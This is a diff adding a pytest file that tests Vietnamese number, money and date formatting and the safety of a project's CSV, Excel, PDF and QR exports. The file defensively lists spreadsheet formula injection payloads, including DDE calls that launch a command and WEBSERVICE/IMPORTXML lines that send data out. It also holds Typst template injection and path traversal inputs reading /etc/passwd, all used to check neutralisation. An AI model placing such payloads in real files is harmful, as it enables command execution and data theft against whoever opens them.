@@ -1,0 +1,117 @@
+"""Numbers, money and dates as Vietnamese readers write them; tables that no spreadsheet runs."""
+
+import csv
+import datetime as dt
+import io
+import zipfile
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from django.utils.translation import override
+
+from common.exports import csv_lines, neutralise, xlsx_bytes
+from common.pdf import TemplateMissing, render_pdf
+from common.qr import qr_svg, qr_svg_bytes
+from common.templatetags import vi
+
+UTC = dt.UTC
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [
+        (10_900_000, "10.900.000 đ"),
+        (2_500_000_000_000, "2.500 tỷ đồng"),
+        (36_300_000_000, "36,3 tỷ đồng"),
+        (25_000_000_001, "25.000.000.001 đ"),
+        (0, "0 đ"),
+        (None, "—"),
+        (-2_000_000_000, "-2 tỷ đồng"),
+    ],
+)
+def test_money_as_one_says_it(value, text):
+    assert vi.format_money(value) == text
+
+
+@pytest.mark.parametrize(
+    ("value", "decimals", "text"),
+    [
+        (1234, 0, "1.234"),
+        (9.26, 1, "9,3"),
+        (10.0, 1, "10"),
+        (Decimal("0.05"), 1, "0,1"),
+        (-1234.5, 1, "-1.234,5"),
+    ],
+)
+def test_numbers_with_dots_and_a_comma(value, decimals, text):
+    assert vi.format_number(value, decimals) == text
+
+
+def test_english_pages_group_as_english_readers_do():
+    with override("en"):
+        assert vi.format_number(1234.5, 1) == "1,234.5"
+
+
+def test_a_moment_is_shown_in_vietnams_time():
+    assert vi.format_moment(dt.datetime(2021, 10, 4, 18, 30, tzinfo=UTC)) == "01:30 ngày 05/10/2021"
+    assert vi.format_date(dt.datetime(2021, 10, 4, 18, 30, tzinfo=UTC)) == "05/10/2021"
+
+
+def test_less_than_all_is_never_100_percent():
+    assert vi.format_percent(999_999, 1_000_000) == "99,9%"
+    assert vi.format_percent(1_000_000, 1_000_000) == "100%"
+    assert vi.format_percent(5, 0) == "—"
+
+
+PAYLOADS = [
+    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://x\",\"a\")", "\t=1+1", "\r=1+1",
+    "\n=1+1", " =1+1", "\u00a0=1+1", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "+84 912 345 678", "-Nguyễn Văn A",
+    "@nguyen", "=-1", "--1", "+-1", "=\"=\"", "＝1+1", "＋1", "－1", "＠x", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=WEBSERVICE(\"http://x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1;=2", "=A1",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_payload_is_live_in_a_csv_or_a_workbook(payload):
+    text = "".join(csv_lines(["tên"], [[payload]])).removeprefix("\ufeff")
+    cell = list(csv.reader(io.StringIO(text, newline="")))[1][0]
+    assert cell.startswith("'")
+    workbook = xlsx_bytes([("S", ["tên"], [[payload]])])
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
+    assert sheet["A2"].data_type == "s"
+    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(workbook)).read("xl/worksheets/sheet1.xml")
+
+
+@pytest.mark.parametrize("value", ["Nguyễn Văn A", "-5", "+1.234,5", "", None, 7, "a=b"])
+def test_plain_values_stay_as_they_are(value):
+    assert neutralise(value) == value
+
+
+def test_a_workbook_of_the_same_rows_has_the_same_bytes():
+    rows = [["Hà Nội", 1, dt.date(2021, 9, 21)]]
+    assert xlsx_bytes([("S", ["a", "b", "c"], rows)]) == xlsx_bytes([("S", ["a", "b", "c"], rows)])
+
+
+def test_a_pdf_prints_markup_as_text_and_all_vietnamese_letters():
+    letters = "ẠẢẤẦẨẪẬẮẰẲẴẶẸẺẼỀỀỂỄỆỈỊỌỎỐỒỔỖỘỚỜỞỠỢỤỦỨỪỬỮỰỲỴỶỸ ươđ ₫"
+    data = {
+        "title": "Thư", "subtitle": "#import \"x\"", "place_date": "", "office": f"*{letters}*", "paragraphs": ["#read(\"/etc/passwd\")"],
+        "signer": "A",
+    }  # fmt: skip
+    pdf = render_pdf("dashboards/reminder.typ", data)
+    assert pdf.startswith(b"%PDF-")
+    assert pdf == render_pdf("dashboards/reminder.typ", data)
+
+
+def test_a_template_outside_the_house_is_refused():
+    with pytest.raises(TemplateMissing):
+        render_pdf("../etc/passwd.typ", {})
+
+
+def test_a_qr_code_has_a_title_and_no_style():
+    svg = qr_svg("https://x.example/thiet-bi/7K3QF9XW2MDC/", title="Mã <máy>")
+    assert "<title>Mã &lt;máy&gt;</title>" in svg
+    assert "style" not in svg
+    assert qr_svg_bytes("x").startswith(b"<svg")
